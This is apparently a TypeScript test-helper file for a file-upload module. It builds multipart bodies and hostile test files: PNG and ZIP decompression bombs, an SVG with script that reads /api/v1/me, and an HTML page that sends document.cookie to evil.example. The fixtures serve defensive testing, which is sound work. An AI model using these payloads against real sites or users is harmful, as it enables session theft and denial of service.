import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';

/** Test helpers of the files module: multipart bodies and hand-made (hostile) files. */

export interface MultipartBody {
  payload: Buffer;
  headers: Record<string, string>;
}

/**
 * A multipart/form-data body with one file part. `dispositionName` is put
 * into the part header as is, so a test can send `filename*=` (RFC 5987)
 * with encoded CR/LF or any raw name.
 */
export function multipart(
  content: Buffer,
  opts: { filename?: string; dispositionName?: string; type?: string; field?: string } = {},
): MultipartBody {
  const boundary = `----parta${randomBytes(8).toString('hex')}`;
  const name =
    opts.dispositionName ?? `filename="${(opts.filename ?? 'file.bin').replace(/"/g, '%22')}"`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${opts.field ?? 'file'}"; ${name}\r\n` +
      `Content-Type: ${opts.type ?? 'application/octet-stream'}\r\n\r\n`,
    'utf8',
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return {
    payload: Buffer.concat([head, content, tail]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

/** A multipart body with only a text field (no file). */
export function multipartWithoutFile(): MultipartBody {
  const boundary = `----parta${randomBytes(8).toString('hex')}`;
  return {
    payload: Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nпривет\r\n--${boundary}--\r\n`,
    ),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const crc32 = (buf: Buffer) => zlib.crc32(buf);

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}

/**
 * A valid-looking PNG whose header claims `width × height` pixels (a
 * decompression bomb if anyone decoded it) with only a few bytes of data.
 */
export function pngBomb(width = 50_000, height = 50_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A ZIP whose one entry inflates to `inflatedBytes` zeros (about 1000:1):
 * must be stored as an opaque archive, never expanded.
 */
export function zipBomb(inflatedBytes = 200 * 1024 * 1024, entry = 'bomb.bin'): Buffer {
  const raw = Buffer.alloc(inflatedBytes);
  const data = zlib.deflateRawSync(raw, { level: 9 });
  const crc = crc32(raw);
  const name = Buffer.from(entry);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(inflatedBytes, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(inflatedBytes, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + data.length, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

/** The start of an Ogg Opus stream (what a browser's voice recorder writes), padded. */
export function oggOpus(bytes = 4096): Buffer {
  const head = Buffer.concat([
    Buffer.from('OggS\0\x02', 'latin1'),
    Buffer.alloc(22),
    Buffer.from('OpusHead\x01\x01', 'latin1'),
  ]);
  return Buffer.concat([head, Buffer.alloc(bytes - head.length, 7)]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
    '<script>fetch("/api/v1/me").then(r=>r.text()).then(alert)</script></svg>',
);

export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html><html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>',
);
